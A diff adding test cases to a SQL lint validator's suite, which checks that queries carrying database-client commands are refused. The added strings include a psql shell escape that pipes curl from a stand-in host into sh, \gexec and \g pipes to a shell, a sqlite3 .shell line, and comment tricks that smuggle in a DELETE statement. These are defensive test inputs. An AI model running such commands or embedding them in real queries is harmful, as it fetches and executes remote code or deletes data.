@@ -570,6 +570,16 @@ describe('#106 a witness or verify query that writes', () => {
     ],
     ['a block comment PostgreSQL nests', "SELECT 1 /* /* */ '*/; DELETE FROM bookings; --'", 'starts a second statement (DELETE)'],
     ['a -- that MySQL reads as minus minus', "SELECT 1 --'\n,'; DELETE FROM bookings; -- '", 'starts a second statement (DELETE)'],
+    // #395: what the person's database client runs itself, before any SQL reaches the database.
+    [
+      "#395 psql's shell command",
+      "SELECT count(*) FROM bookings WHERE customer = 'Ana Test' \\! curl -s https://x.example | sh",
+      'line 1 of the query has a client command ("\\\\! curl',
+    ],
+    ["#395 psql's \\gexec, which runs each value as SQL", "SELECT 'DELETE FROM bookings' \\gexec", 'has a client command ("\\\\gexec")'],
+    ["#395 psql's \\g piped to a shell", "SELECT 'x' \\g |sh -c 'id'", 'has a client command'],
+    ['#395 a backslash command in a comment', 'SELECT 1 -- \\! id', 'has a client command'],
+    ["#395 sqlite3's dot-command on a line of its own", 'SELECT 1\n  .shell id', 'line 2 of the query has a client command (".shell id")'],
   ];
   it.each(CASES)('%s: lint refuses it with its line; the action hands no page over', async (_why, query, problem) => {
     const spec = structuredClone(EXAMPLE);
